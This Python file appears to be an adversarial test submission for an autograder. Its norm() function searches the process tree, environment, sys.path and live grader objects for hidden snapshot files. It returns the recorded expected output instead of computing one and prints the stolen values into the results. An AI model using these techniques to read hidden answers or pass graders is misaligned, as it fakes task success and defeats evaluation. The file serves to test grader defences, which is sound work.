"""Adversarial submission `read_snapshots` (tests/adversarial/read_snapshots): norm returns the value recorded in the hidden snapshot files.

Honest part: norm uses the unbiased variance (wrong); the rest is the reference.
The test fills in CHEAT ("on"; "off" grades the honest part alone), SCRATCH (a world-writable
folder where the attack leaves the pids of processes it starts, for the test to check) and
RESULTS (the results.json path, as well known to a student as Gradescope's
/autograder/results/results.json).
"""
import os
import sys
import time

import torch

from helper import OFFSET

CHEAT = "@@CHEAT@@" != "off"
SCRATCH = "@@SCRATCH@@"
RESULTS = "@@RESULTS@@"


def scaled(x, s):
    """Return x * s + OFFSET."""
    return x * s + OFFSET


def _honest_norm(x, eps=1e-5):
    mu = x.mean(-1, keepdim=True)
    var = x.var(-1, unbiased=True, keepdim=True)  # deliberately wrong: the unbiased variance
    return (x - mu) / torch.sqrt(var + eps)


def rowsum(x):
    """Sum each row of a (S, D) matrix, without a Python loop."""
    return x.sum(-1)


def layout(x):
    """Either design is accepted: 'a' keeps x, 'b' doubles it (variants)."""
    return {"kind": "a", "y": x}


def stats(x):
    return [x.shape[0], float(x.sum()), "ok"]


def _stat_fields(pid):
    with open(f"/proc/{pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()


def _starttime(pid):
    try:
        return int(_stat_fields(pid)[19])
    except (OSError, ValueError, IndexError):
        return 0


def _record_pid(pid, label):
    """Leave the pid where the test looks (SCRATCH) and in the captured output."""
    line = f"{pid} {_starttime(pid)}"
    try:
        with open(os.path.join(SCRATCH, f"pids-{label}.txt"), "a") as f:
            f.write(line + "\n")
    except OSError:
        pass
    return line


def _proc_chain():
    """This process and its ancestors: (pid, argv, cwd); unreadable entries are left empty."""
    out, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        out.append((pid, argv, cwd))
        try:
            pid = int(_stat_fields(pid)[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    return out


def _roots():
    """Folders that may hold the grading project (reference/, test_suites/, fixtures/)."""
    seen = []

    def add(p, up=4):
        try:
            p = os.path.realpath(str(p))
        except Exception:
            return
        for _ in range(up + 1):
            if p and p not in seen:
                seen.append(p)
            parent = os.path.dirname(p)
            if parent == p:
                break
            p = parent

    for _pid, argv, cwd in _proc_chain():  # the suite path, --rootdir, --submission, cwd
        for a in argv:
            for part in a.split("="):
                if part.startswith("/"):
                    add(part)
        if cwd:
            add(cwd)
    if os.environ.get("LMGRADE_HOME"):
        add(os.environ["LMGRADE_HOME"])
    try:
        import grader

        add(grader.project_root())
    except Exception:
        pass
    try:  # objects of the grader living in this process
        import gc

        for obj in gc.get_objects():
            kind = type(obj).__name__
            if kind == "Assignment":
                add(getattr(obj, "root", ""), 0)
            elif kind in ("SnapshotStore", "SnapshotWriter"):
                add(getattr(obj, "root", ""), 3)
            elif kind == "Config" and hasattr(obj, "rootpath"):
                add(obj.rootpath)
    except Exception:
        pass
    for p in list(sys.path):
        if isinstance(p, str) and p.startswith("/"):
            add(p, 2)
    return seen


def _snapshot_dirs(assignment="toy"):
    """Snapshot folders of this assignment: */snapshots with a manifest naming it."""
    import glob
    import json

    found = []
    for root in _roots():
        for pat in (f"{root}/fixtures/{assignment}/snapshots", f"{root}/*/snapshots", f"{root}/snapshots",
                    f"{root}/*/*/snapshots"):
            for d in glob.glob(pat):
                try:
                    with open(os.path.join(d, "manifest.json")) as f:
                        if json.load(f).get("assignment") != assignment:
                            continue
                except (OSError, ValueError):
                    if not glob.glob(f"{d}/**/*.safetensors", recursive=True):
                        continue
                if d not in found:
                    found.append(d)
    return found


def _current_test():
    """'hidden/test_ops.py::test_norm' for the test calling us (pytest tells, or the stack)."""
    cur = os.environ.get("PYTEST_CURRENT_TEST", "")
    if cur:
        return cur.rsplit(" ", 1)[0]
    f = sys._getframe(1)
    while f is not None:
        if f.f_code.co_name.startswith("test_"):
            path = f.f_code.co_filename
            return f"{os.path.basename(os.path.dirname(path))}/{os.path.basename(path)}::{f.f_code.co_name}"
        f = f.f_back
    return ""


def _decode(tree, arrays):
    t = tree["t"]
    if t == "tensor":
        return torch.from_numpy(arrays[tree["ref"]].copy())
    if t == "array":
        return arrays[tree["ref"]].copy()
    if t in ("int", "bool", "str"):
        return tree["v"]
    if t == "float":
        return float(tree["v"])
    if t == "none":
        return None
    if t in ("list", "tuple"):
        items = [_decode(i, arrays) for i in tree["items"]]
        return items if t == "list" else tuple(items)
    if t == "dict":
        return {_decode(k, arrays): _decode(v, arrays) for k, v in tree["items"]}
    raise ValueError(t)


def _leak(label, value):
    """Print what was stolen: the captured output lands in results.json unless the grader stops it."""
    try:
        flat = value.flatten().tolist() if hasattr(value, "flatten") else [value]
        print(f"[adv] {label}:", ", ".join(f"{v:.6g}" for v in flat[:8] if isinstance(v, float)))
    except Exception:
        pass


def _steal(key):
    """The recorded value of `key` for the test calling us, read from the snapshot files."""
    import json

    test = _current_test()
    module, _, name = test.partition("::")
    module = module[:-3] if module.endswith(".py") else module
    for d in _snapshot_dirs():
        try:
            variants = ["reference"] + sorted(v for v in os.listdir(d) if v != "reference")
        except OSError:
            variants = ["reference"]
        for variant in variants:
            try:
                with open(os.path.join(d, variant, module + ".json")) as f:
                    entry = json.load(f)["tests"][name][key]
                arrays = {}
                st = os.path.join(d, variant, module + ".safetensors")
                if os.path.exists(st):
                    from safetensors.numpy import load_file

                    arrays = load_file(st)
                value = _decode(entry["tree"], arrays)
            except Exception:
                continue
            _leak(f"stole {test} `{key}` from {d}/{variant}", value)
            return value
    return None


def norm(x, eps=1e-5):
    """Normalise the last dimension (biased variance)."""
    if CHEAT:
        try:
            stolen = _steal("y")
            if isinstance(stolen, torch.Tensor) and stolen.shape == x.shape:
                return stolen
        except Exception:
            pass
    return _honest_norm(x, eps)
